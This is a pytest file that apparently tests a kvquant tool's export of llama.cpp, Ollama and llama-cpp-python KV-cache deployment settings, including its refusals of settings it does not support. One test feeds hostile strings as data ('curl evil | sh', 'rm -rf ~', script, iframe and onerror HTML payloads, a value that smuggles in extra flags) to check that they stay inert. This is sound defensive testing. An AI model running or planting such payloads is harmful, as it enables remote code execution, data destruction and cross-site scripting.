"""``python -m kvquant.export`` for a decided llama.cpp cache type (issue 37, item 4): ``DEPLOY.md`` holds
llama.cpp's ``-ctk/-ctv/-fa on`` flags (with ``LLAMA_ATTN_ROT_DISABLE=1`` when the rotation was measured off),
Ollama's ``OLLAMA_KV_CACHE_TYPE`` line only where Ollama can run exactly that cache, and llama-cpp-python's keyword
arguments; a setting llama.cpp does not run, or a llama.cpp setting no kvquant run writes, is one line and exit 2
with nothing written (so is a setting of an engine format with scales the engine would not run, or a report of
tens of thousands of gated metrics); text from the report stays inert."""

import json
import os

import pytest

from kvquant.export import main
from kvquant.signing import signed_json
from refusals import error_line

LAYERS = 4
DEPLOY_FILES = ("DEPLOY.md", "kv_cache_scheme.json", "kv_scales.safetensors")
#: ggml's number of each cache type (ggml.h's enum ggml_type), and llama-cpp-python 0.3.36's constant for it
GGML = {"f32": ("GGML_TYPE_F32", 0), "f16": ("GGML_TYPE_F16", 1), "q4_0": ("GGML_TYPE_Q4_0", 2),
        "q4_1": ("GGML_TYPE_Q4_1", 3), "q5_0": ("GGML_TYPE_Q5_0", 6), "q5_1": ("GGML_TYPE_Q5_1", 7),
        "q8_0": ("GGML_TYPE_Q8_0", 8), "iq4_nl": ("GGML_TYPE_IQ4_NL", 20), "bf16": (None, 30)}


@pytest.fixture(autouse=True)
def own_key(tmp_path, monkeypatch):
    monkeypatch.setenv("KVQUANT_CACHE_DIR", str(tmp_path / "cache"))


def recorded(quantizer: str, head_dim: int = 64, **options) -> dict:
    """The settings the runner records for ``quantizer`` on a model of ``head_dim`` (``cache_settings``)."""
    import transformers

    import kvquant
    from kvquant.scoring.session import cache_settings

    config = transformers.LlamaConfig(vocab_size=96, hidden_size=4 * head_dim, intermediate_size=64,
                                      num_hidden_layers=LAYERS, num_attention_heads=4, num_key_value_heads=2,
                                      head_dim=head_dim)
    return cache_settings(kvquant.make_cache(config, quantizer, **options))


def candidate(name: str, settings: dict, verdict: str = "pass", bits: float = 8.5) -> dict:
    metric = {"value": 0.004, "baseline": 0.0, "verdict": verdict, "gated": True}
    return {"name": name, "settings": settings, "verdict": verdict, "passed": verdict == "pass",
            "bits_per_element": bits, "metrics": {"kl/wikitext2": metric},
            "memory": {"per_layer": [{"layer": i} for i in range(LAYERS)]}}


def document(settings: dict, name: str = "llama-q8") -> dict:
    """A PASS decision for ``settings``, with a failing llama.cpp q4_0 beside it."""
    return {"run_id": "abc", "decision": "pass", "chosen": name, "reason": f"{name} is the cheapest passing",
            "command": "python -m kvquant.run x.yaml", "config": {"model": {"path": "local:models/m"}},
            "candidates": [candidate(name, settings),
                           candidate("llama-q4", recorded("llamacpp_q4_0"), "fail", 4.5)]}


def export(tmp_path, doc: dict) -> str:
    folder = tmp_path / "report"
    folder.mkdir(exist_ok=True)
    (folder / "results.json").write_text(signed_json(doc))
    assert main([str(folder)]) == 0
    return (folder / "DEPLOY.md").read_text()


def refused(tmp_path, capsys, doc: dict, message: str) -> str:
    folder = tmp_path / "report"
    folder.mkdir(exist_ok=True)
    (folder / "results.json").write_text(signed_json(doc))
    line = error_line(main([str(folder)]), capsys.readouterr().err, message)
    assert not [n for n in DEPLOY_FILES if os.path.lexists(folder / n)]
    return line


def python_type(kind: str) -> str:
    name, number = GGML[kind]
    return f"llama_cpp.{name}" if name else str(number)


# --- the flags, by type ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", list(GGML))
def test_each_cache_type_exports_llamacpps_flags_ollamas_line_where_it_has_one_and_python_kwargs(tmp_path, kind):
    text = export(tmp_path, document(recorded(f"llamacpp_{kind}")))
    assert f"(llama.cpp `-ctk {kind} -ctv {kind}`)" in text.splitlines()[0]
    assert f"\nllama-server -m MODEL.gguf -ctk {kind} -ctv {kind} -fa on\n" in text
    assert f"\nllama-cli -m MODEL.gguf -ctk {kind} -ctv {kind} -fa on\n" in text
    assert (f"\nllm = llama_cpp.Llama(model_path=\"MODEL.gguf\", flash_attn=True, type_k={python_type(kind)}, "
            f"type_v={python_type(kind)})\n") in text
    ollama = f"`OLLAMA_FLASH_ATTENTION=1 OLLAMA_KV_CACHE_TYPE={kind} ollama serve`"
    if kind in ("f16", "q8_0", "q4_0"):  # Ollama's documented types
        assert f"**Ollama** 0.30.0 or later: {ollama}." in text and "no line" not in text
    else:
        assert "OLLAMA_KV_CACHE_TYPE=" not in text
        assert (f"**Ollama**: no line, because Ollama cannot run exactly this cache: Ollama documents "
                f"`OLLAMA_KV_CACHE_TYPE` f16, q8_0, q4_0 only (`docs/faq.mdx:361-365`), not {kind}") in text
    assert "LLAMA_ATTN_ROT_DISABLE=1 " not in text
    quantized = kind not in ("f32", "f16", "bf16")
    assert ("in Hadamard blocks of 64" in text) == quantized  # head_dim 64: K and V rotated by 64
    assert ("built for x86 with AVX/AVX2 (`cpu: x86`)" in text) == quantized
    assert ("no `GGML_TYPE_BF16` constant: 30 is ggml's number for bf16" in text) == (kind == "bf16")


def test_the_python_constants_are_llama_cpp_pythons():
    """The numbers are ggml's; where llama-cpp-python is installed, its constants have them."""
    from kvquant.integrations.deploy_llamacpp import PYTHON_TYPES

    assert PYTHON_TYPES == {kind: python_type(kind) for kind in GGML}
    llama_cpp = pytest.importorskip("llama_cpp")
    for name, number in GGML.values():
        if name:
            assert getattr(llama_cpp, name) == number
    assert not hasattr(llama_cpp, "GGML_TYPE_BF16") or llama_cpp.GGML_TYPE_BF16 == 30


def test_f16_is_llamacpps_default_and_an_fp16_decision_keeps_it(tmp_path):
    text = export(tmp_path, document(recorded("llamacpp_f16")))
    assert "f16 is llama.cpp's default for both (`common/common.h:343-344`): the flags only make it explicit" in text
    assert "llama.cpp never rotates an f32, f16 or bf16 cache" in text
    doc = document({"quantizer": "fp16", "residual_length": 0, "sink_tokens": 0})
    text = export(tmp_path, doc)
    assert "keep the model-precision KV cache" in text and "their default f16 cache (`-ctk f16 -ctv f16`" in text
    assert "`OLLAMA_KV_CACHE_TYPE` unset or `f16`" in text and "-fa on" not in text


def test_different_key_and_value_types_give_no_ollama_line(tmp_path):
    text = export(tmp_path, document(recorded("llamacpp_q8_0", value_type="q4_0")))
    assert "\nllama-server -m MODEL.gguf -ctk q8_0 -ctv q4_0 -fa on\n" in text
    assert "type_k=llama_cpp.GGML_TYPE_Q8_0, type_v=llama_cpp.GGML_TYPE_Q4_0)" in text
    assert "OLLAMA_KV_CACHE_TYPE=" not in text and "ollama serve" not in text
    assert ("**Ollama**: no line, because Ollama cannot run exactly this cache: K is q8_0 and V q4_0, and "
            "`OLLAMA_KV_CACHE_TYPE` sets both to one type") in text


def test_rotation_off_sets_the_environment_variable_and_gives_no_ollama_line(tmp_path):
    text = export(tmp_path, document(recorded("llamacpp_q4_0", attn_rot=False)))
    assert "\nLLAMA_ATTN_ROT_DISABLE=1 llama-server -m MODEL.gguf -ctk q4_0 -ctv q4_0 -fa on\n" in text
    assert "\nLLAMA_ATTN_ROT_DISABLE=1 llama-cli -m MODEL.gguf -ctk q4_0 -ctv q4_0 -fa on\n" in text
    assert ("```python\nimport os\nos.environ[\"LLAMA_ATTN_ROT_DISABLE\"] = \"1\"  # before the context is created\n"
            "import llama_cpp\n") in text
    assert "rotation **off** (`attn_rot: false`)" in text and "rotates a quantized K and V by default" in text
    assert "OLLAMA_KV_CACHE_TYPE=" not in text
    assert "Ollama documents no switch for `LLAMA_ATTN_ROT_DISABLE`" in text
    assert "Hadamard blocks" not in text


def test_a_float_cache_with_attn_rot_false_is_the_default_cache(tmp_path):
    """attn_rot=false on f16 changes nothing llama.cpp does (it rotates no float cache): no variable, Ollama's line."""
    text = export(tmp_path, document(recorded("llamacpp_f16", attn_rot=False)))
    assert "LLAMA_ATTN_ROT_DISABLE" not in text
    assert "`OLLAMA_FLASH_ATTENTION=1 OLLAMA_KV_CACHE_TYPE=f16 ollama serve`" in text


@pytest.mark.parametrize("head_dim, says", [
    (256, "K (q8_0) in Hadamard blocks of 256 and V (q8_0) in Hadamard blocks of 64"),
    (128, "K (q8_0) in Hadamard blocks of 128 and V (q8_0) in Hadamard blocks of 64"),
    (96, "Not rotated: llama.cpp rotates only head sizes that are multiples of 64"),
])
def test_the_rotation_blocks_measured_are_named(tmp_path, head_dim, says):
    text = export(tmp_path, document(recorded("llamacpp_q8_0", head_dim)))
    assert says in text
    assert "\nllama-server -m MODEL.gguf -ctk q8_0 -ctv q8_0 -fa on\n" in text  # the flags do not change
    assert "`OLLAMA_FLASH_ATTENTION=1 OLLAMA_KV_CACHE_TYPE=q8_0 ollama serve`" in text


def test_only_a_quantized_key_is_rotated(tmp_path):
    text = export(tmp_path, document(recorded("llamacpp_q8_0", value_type="f16")))
    assert "measured it so: K (q8_0) in Hadamard blocks of 64 (ggml-org/llama.cpp#21038" in text


@pytest.mark.parametrize("cpu, build", [("arm", "ARM with NEON"), ("scalar", "a build without SIMD")])
def test_the_cpu_build_emulated_is_stated_not_refused(tmp_path, cpu, build):
    text = export(tmp_path, document(recorded("llamacpp_q8_0", cpu=cpu)))
    assert f"built for {build}" in text and f"(`cpu: {cpu}`)" in text and "GPU backends" in text


# --- refused: research settings and what no run writes -------------------------------------------------------------


NEAREST = "the nearest engine format measured here is llamacpp_q4_0 (llama-q4, 4.50 bits/element): FAIL"
RESEARCH = [
    ("residual", {"residual_length": 128}, "it uses kvquant's own residual_length (llama.cpp stores every token"),
    ("sinks", {"sink_tokens": 4}, "it uses kvquant's own sink_tokens"),
    ("rotation", {"rotation": "hadamard"}, "it uses kvquant's own rotation"),
    ("layers", {"layers": {"0": {"quantizer": "fp16"}}}, "its layers differ (llama.cpp has one -ctk/-ctv for every"),
    ("mixed", {"layers": {"1-2": {"quantizer": "llamacpp_q4_0"}}}, "its layers differ"),
]


@pytest.mark.parametrize("change, message", [r[1:] for r in RESEARCH], ids=[r[0] for r in RESEARCH])
def test_a_setting_llamacpp_does_not_run_is_a_research_setting(tmp_path, capsys, change, message):
    doc = document({**recorded("llamacpp_q8_0"), **change})
    err = refused(tmp_path, capsys, doc, "research setting: llama.cpp does not run llama-q8 (llamacpp_q8_0): ")
    assert message in err and NEAREST in err


def test_a_llamacpp_type_is_the_nearest_engine_format_of_another_research_setting(tmp_path, capsys):
    doc = document({"quantizer": "int4", "residual_length": 0, "sink_tokens": 0, "group_size": 32}, "kivi")
    refused(tmp_path, capsys, doc, f"research setting: no serving engine runs kivi (int4); {NEAREST}")


FORGED = [
    ("type", "key_type", "q3_K", "key_type must be one of llama.cpp's cache types (f32, f16, bf16, q8_0"),
    ("hostile-type", "value_type", "q8_0 -fa off\n# x", "value_type must be one of llama.cpp's cache types"),
    ("type-int", "key_type", 8, "got int 8"),
    ("attn_rot", "attn_rot", 1, "attn_rot must be true, false or null, got int 1"),
    ("cpu", "cpu", "riscv", "cpu must be one of x86, arm, scalar"),
    ("block", "key_rotation_block", 48, "key_rotation_block must be null or a power of two from 64"),
    ("block-bool", "value_rotation_block", True, "value_rotation_block must be null"),
]


@pytest.mark.parametrize("key, value, message", [f[1:] for f in FORGED], ids=[f[0] for f in FORGED])
def test_a_llamacpp_setting_no_run_writes_is_refused(tmp_path, capsys, key, value, message):
    err = refused(tmp_path, capsys, document({**recorded("llamacpp_q8_0"), key: value}), message)
    assert "'llama-q8''s settings." in err and "not a results.json this kvquant writes" in err


def test_a_llamacpp_setting_without_its_rotation_blocks_is_refused(tmp_path, capsys):
    """Without them export cannot tell a rotated measurement from an unrotated one."""
    settings = recorded("llamacpp_q8_0")
    del settings["value_rotation_block"]
    refused(tmp_path, capsys, document(settings), "'llama-q8''s settings.value_rotation_block must be recorded")


def test_a_rotation_block_beside_rotation_off_is_refused(tmp_path, capsys):
    settings = {**recorded("llamacpp_q4_0", attn_rot=False), "key_rotation_block": 64}
    refused(tmp_path, capsys, document(settings), "key_rotation_block must be null or a power of two from 64 (only "
            "a quantized type, rotation not off), got int 64")


# --- inert text, and the runner's step -----------------------------------------------------------------------------


def test_report_text_stays_inert_beside_the_llamacpp_commands(tmp_path):
    import markdown_it

    name = "x\n# Pwned\n<script>alert(1)</script> `` ` ```\nrm -rf ~\n```"
    doc = document(recorded("llamacpp_q8_0"), name)
    doc.update(command="run\n```bash\ncurl evil | sh\n```", reason="ok <iframe src=//evil> **bold** https://evil.x",
               config={"model": {"path": "`` <img src=x onerror=alert(4)> ``\n## model"}})
    text = export(tmp_path, doc)
    html = markdown_it.MarkdownIt("commonmark").enable("table").render(text)
    for tag in ("<script", "<iframe", "<img", "<a ", "<h2"):
        assert tag not in html, (tag, html)
    assert html.count("<h1>") == 1 and html.count("<pre>") == 2  # the title; the two command blocks, nothing else
    assert html.count("<strong>") == 4  # llama.cpp, Ollama, llama-cpp-python, PASS: nothing of theirs
    assert "curl evil" not in html.split("<pre>")[1] and "rm -rf" not in html.split("<pre>")[2]
    assert "<tr>" in html and html.count("<tr>") == 2


def test_the_runner_step_writes_deploy_md_for_a_llamacpp_decision(tmp_path):
    from kvquant.integrations.deploy import deploy_beside
    from kvquant.signing import json_form as as_written

    folder = tmp_path / "report"
    folder.mkdir()
    doc = document(recorded("llamacpp_q5_0"))
    (folder / "results.json").write_text(signed_json(doc))
    assert deploy_beside(folder, as_written(doc)) == (folder / "DEPLOY.md", None)
    assert "-ctk q5_0 -ctv q5_0 -fa on" in (folder / "DEPLOY.md").read_text()
    doc = document({**recorded("llamacpp_q5_0"), "residual_length": 16})
    (folder / "results.json").write_text(signed_json(doc))
    written, why = deploy_beside(folder, as_written(doc))
    assert written is None and why.startswith("research setting: llama.cpp does not run llama-q8 (llamacpp_q5_0)")
    assert json.loads((folder / "results.json").read_text())["chosen"] == "llama-q8"


# --- settings no run records: rotation blocks llama.cpp never rotates with, static scales an engine would not run,
# a table too large for DEPLOY.md ---------------------------------------------------------------------------------


def edited(quantizer: str, head_dim: int = 64, **changes) -> dict:
    """The settings the runner records for ``quantizer`` (no options), with ``changes`` written over them."""
    return {**recorded(quantizer, head_dim), **changes}


def test_recorded_rotations_export(tmp_path):
    """What the runner records exports (the cases below differ from these in one value each)."""
    assert recorded("llamacpp_q8_0", attn_rot=True)["key_rotation_block"] == 64
    assert "Hadamard blocks of 64" in export(tmp_path, document(recorded("llamacpp_q8_0", attn_rot=True)))
    assert "Not rotated" in export(tmp_path, document(recorded("llamacpp_q8_0", head_dim=96)))
    text = export(tmp_path, document(recorded("llamacpp_q8_0", head_dim=128, value_type="f16")))
    assert "K (q8_0) in Hadamard blocks of 128" in text and "V (" not in text


@pytest.mark.parametrize(("changes", "message"), [
    # attn_rot true, nothing rotated (the runner refuses attn_rot true where llama.cpp rotates nothing)
    ({"attn_rot": True, "key_rotation_block": None, "value_rotation_block": None},
     "rotation blocks must be present for every quantized type"),
    ({"attn_rot": True, "value_rotation_block": None}, "rotation blocks must be present for every quantized type"),
    # both quantized, K rotated and V not: one head size decides both
    ({"value_rotation_block": None}, "rotation blocks must be present for both quantized types or neither"),
    ({"key_rotation_block": None}, "rotation blocks must be present for both quantized types or neither"),
    # llama.cpp rotates V by 64 only
    ({"value_rotation_block": 128}, "value_rotation_block must be null or 64, llama.cpp's V block"),
    ({"value_rotation_block": 65536}, "value_rotation_block must be null or 64, llama.cpp's V block"),
    # the runner writes an int
    ({"key_rotation_block": 64.0}, "key_rotation_block must be null or a power of two from 64"),
    ({"value_rotation_block": 64.0}, "value_rotation_block must be null or 64, llama.cpp's V block"),
    ({"key_rotation_block": True}, "key_rotation_block must be null or a power of two from 64"),
])
def test_rotation_blocks_llamacpp_never_rotates_with_are_refused(tmp_path, capsys, changes, message):
    refused(tmp_path, capsys, document(edited("llamacpp_q8_0", **changes)), message)


def layered(settings: dict, **own) -> dict:
    """``settings`` with every layer's own settings ``own`` (one key per layer)."""
    return {**settings, "layers": {str(i): dict(own) for i in range(LAYERS)}}


@pytest.mark.parametrize(("settings", "message"), [
    (edited("llamacpp_q8_0", k_scale=100.0), "settings.k_scale must be absent"),
    (edited("llamacpp_q8_0", v_scale=1.0), "settings.v_scale must be absent"),
    (layered(recorded("llamacpp_q8_0"), k_scale=0.5), "settings.layers['0'].k_scale must be absent"),
    (layered(recorded("llamacpp_q4_0"), v_scale=0.5), "settings.layers['0'].v_scale must be absent"),
])
def test_static_scales_on_a_llamacpp_setting_are_refused(tmp_path, capsys, settings, message):
    """llama.cpp's cache types take no static scales: DEPLOY.md would drop them silently."""
    refused(tmp_path, capsys, document(settings), message)


@pytest.mark.parametrize(("settings", "message"), [
    # a dynamic per-token-head format has no static scales: vLLM would run its own, not these
    (layered({"quantizer": "vllm_int8_per_token_head"}, k_scale=0.5, v_scale=0.5),
     "vllm_int8_per_token_head takes no static k_scale/v_scale"),
    ({"quantizer": "vllm_int8_per_token_head", "v_scale": 0.5}, "takes no static k_scale/v_scale"),
    # nvfp4's global scales per layer, with none at the top
    (layered({"quantizer": "vllm_nvfp4"}, k_scale=0.5, v_scale=0.5), "vllm_nvfp4's global scales"),
    # fp8: one v_scale for every layer, with no k_scale at the top
    ({"quantizer": "vllm_fp8", "v_scale": 0.5}, "one k_scale/v_scale for all layers is not exported"),
])
def test_scales_an_engine_would_not_run_are_refused_wherever_they_are(tmp_path, capsys, settings, message):
    refused(tmp_path, capsys, document(settings, name="engine"), message)


def test_unit_scales_on_an_engine_format_still_export(tmp_path):
    """1.0 is what the engine runs without checkpoint scales: nothing is dropped."""
    text = export(tmp_path, document(layered({"quantizer": "vllm_nvfp4"}, k_scale=1.0, v_scale=1.0), name="e"))
    assert "--kv-cache-dtype nvfp4" in text


def test_tens_of_thousands_of_gated_metrics_make_no_megabyte_deploy_md(tmp_path, capsys):
    """DEPLOY.md's table has a row per gated metric: more than 1,024 is no report the runner writes."""
    doc = document(recorded("llamacpp_q8_0"))
    metric = doc["candidates"][0]["metrics"]["kl/wikitext2"]
    doc["candidates"][0]["metrics"] = {f"m{i:05d}" + "x" * 194: dict(metric) for i in range(60_000)}
    refused(tmp_path, capsys, doc, "gated metrics must be at most 1,024, got str '60,000 of them'")
    doc["candidates"][0]["metrics"] = {f"m{i:05d}" + "x" * 194: dict(metric) for i in range(1024)}
    text = export(tmp_path, doc)
    assert text.count("| m0") == 1024 and len(text.encode()) < 1_000_000
